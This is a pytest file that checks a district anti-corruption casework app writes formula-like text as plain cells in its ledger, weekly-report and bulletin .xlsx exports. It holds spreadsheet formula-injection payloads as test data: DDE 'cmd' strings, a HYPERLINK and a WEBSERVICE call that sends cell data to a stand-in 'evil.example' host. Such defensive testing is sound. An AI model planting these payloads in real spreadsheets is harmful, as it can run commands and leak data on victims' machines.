"""A text a person typed that a spreadsheet would run as a formula (=, +, -, @, a tab, a CR first) is written
as text by every .xlsx writer: the ledgers (Attachments 3 and 4, page and weekly .zip), the weekly report
workbook and the monthly bulletin. Opened with openpyxl, the cell is a string cell holding the typed text."""
import io
import zipfile
from datetime import date

import openpyxl
import pyotp
from sqlalchemy import update

from casework import workflow as casework
from casework.models import LedgerInstitution, LedgerPerson
from oversight.bulletin import month_figures
from oversight.ledger_export import export_ledger
from oversight.weekly import submit_weekly
from oversight.xlsx import write_bulletin
from tests.support.staff import Team, login, make_user, open_case, otp_code

SECRET = pyotp.random_base32()
ATTACKS = ["=HYPERLINK(\"http://e.example/\"&A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def as_read(text: str) -> str:
    return text.replace("\r", "\n")  # an XML reader turns a CR into a line feed (the cell is still text)


def cells_with(data: bytes, texts) -> dict[str, openpyxl.cell.cell.Cell]:
    """Every cell of the workbook whose value is one of `texts` (as read back), by its text."""
    wanted = {as_read(t): t for t in texts}
    found = {}
    for ws in openpyxl.load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value in wanted:
                    found[wanted[cell.value]] = cell
    return found


def assert_all_text(data: bytes, texts) -> None:
    found = cells_with(data, texts)
    assert set(found) == set(texts), f"missing: {set(texts) - set(found)}"
    for text, cell in found.items():
        assert cell.data_type == "s", (text, cell.data_type)
        assert cell.value == as_read(text)


def ledger_rows(app, session, ctx, team):
    """One Attachment 3 and one Attachment 4 row per attack (tabs and CRs, which the forms strip, written
    straight into the table as an older import would have)."""
    case, _ = open_case(app, session, ctx)
    casework.accept(session, team.handler, case)
    for n, attack in enumerate(ATTACKS):
        typed = attack.lstrip("\t\r")
        inst = casework.add_ledger_institution(
            session, team.handler, case, name=f"机构{n}", item_code="6.4", manifestation=typed,
            measures=typed, responsible_person=typed)
        person = casework.add_ledger_person(session, team.handler, case, name=typed, item_code="6.4",
                                            employer=typed, handling_opinion=typed)
        if typed != attack:
            session.execute(update(LedgerInstitution).where(LedgerInstitution.id == inst.id)
                            .values(manifestation=attack))
            session.execute(update(LedgerPerson).where(LedgerPerson.id == person.id).values(name=attack))
        session.commit()


def test_ledgers_write_formula_like_texts_as_text(app, session, ctx):
    team = Team(session)
    ledger_rows(app, session, ctx, team)
    typed = [a.lstrip("\t\r") for a in ATTACKS]
    for kind in ("institution", "individual"):
        out = io.BytesIO()
        export_ledger(session, team.coordinator, kind, out, unit=None, person="=A1", contact="+86")
        assert_all_text(out.getvalue(), set(ATTACKS) | set(typed))
        ws = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
        assert ws["A2"].value == "填报单位：兴隆台区医药领域腐败问题集中整治工作专班"
        assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_weekly_workbook_zip_and_ledger_page_write_them_as_text(app, client, session, ctx):
    team = Team(session)
    ledger_rows(app, session, ctx, team)
    progress = "=WEBSERVICE(\"http://evil.example/\"&B3)"
    submit_weekly(session, team.head, progress, date.today())
    coordinator = make_user(session, "coord", role="coordinator", unit="taskforce", totp_secret=SECRET)
    assert login(client, coordinator.username, otp=otp_code(SECRET)).status_code == 302
    weekly = client.get("/weekly.xlsx")
    assert weekly.status_code == 200
    assert_all_text(weekly.data, {progress})
    bundle = client.get("/weekly.zip")
    with zipfile.ZipFile(io.BytesIO(bundle.data)) as z:
        assert_all_text(z.read(next(n for n in z.namelist() if n.startswith("周调度"))), {progress})
        assert_all_text(z.read("兴隆台区卫生健康局-工作台账（机构）.xlsx"), set(ATTACKS))
        assert_all_text(z.read("兴隆台区卫生健康局-工作台账（个人）.xlsx"), set(ATTACKS))
    from tests.support.web import hidden_fields
    form = hidden_fields(client.get("/ledgers").get_data(as_text=True))
    page = client.post("/ledgers/export", data={**form, "kind": "individual", "unit": "all", "person": "@me",
                                                "contact": "-1"})
    assert page.status_code == 200
    assert_all_text(page.data, set(ATTACKS))


def test_bulletin_writes_formula_like_names_as_text(app, session, ctx):
    """The bulletin's labels come from data an admin edits (unit names, the negative list): the same rule."""
    team = Team(session)
    case, _ = open_case(app, session, ctx)
    casework.accept(session, team.handler, case)
    today = date.today()
    figures = month_figures(session, date(today.year, today.month, 1), today)
    out = io.BytesIO()
    names = iter(ATTACKS * 10)
    write_bulletin(figures, out, unit_name=lambda code: next(names), item_title=lambda code: "=1+2",
                   area_title=lambda area: "@A1")
    found = cells_with(out.getvalue(), set(ATTACKS) | {"=1+2", "@A1"})
    assert {"=1+2", "@A1"} <= set(found) and len(found) >= 3
    assert all(c.data_type == "s" for c in found.values())
